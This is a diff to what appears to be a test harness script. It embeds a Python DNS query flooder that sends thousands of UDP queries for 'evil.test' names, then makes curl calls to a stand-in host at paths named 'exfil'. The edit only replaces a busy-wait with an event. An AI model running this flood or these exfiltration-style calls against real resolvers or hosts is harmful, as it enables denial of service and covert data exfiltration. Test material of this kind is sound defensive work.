@@ -10,7 +10,7 @@ CURL = "curl -sS -m 20 "
 
 FLOOD = """
 import random, socket, struct, subprocess, sys, threading
-stop = threading.Event()
+stop, enough = threading.Event(), threading.Event()
 asked = [0] * 3
 def flood(k):
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
@@ -18,6 +18,7 @@ def flood(k):
     s.settimeout(1)
     while not stop.is_set():
         asked[k] += 1
+        if sum(asked) >= 3000: enough.set()
         labels = [f"n{asked[k]}", f"x{k}", "evil", "test"]
         question = b"".join(bytes([len(l)]) + l.encode() for l in labels) + bytes(1)
         head = struct.pack("!HHHHHH", random.randrange(65536), 0x100, 1, 0, 0, 0)
@@ -28,7 +29,7 @@ def flood(k):
             pass
 threads = [threading.Thread(target=flood, args=(k,)) for k in range(3)]
 for thread in threads: thread.start()
-while sum(asked) < 3000 and any(t.is_alive() for t in threads): pass
+enough.wait()  # Not by looking again and again: that takes the threads their time.
 for i in range(8):
     subprocess.run(["curl", "-s", "-o", "/dev/null", "-m", "20", f"http://whoami.example.test/exfil{i}"])
 stop.set()
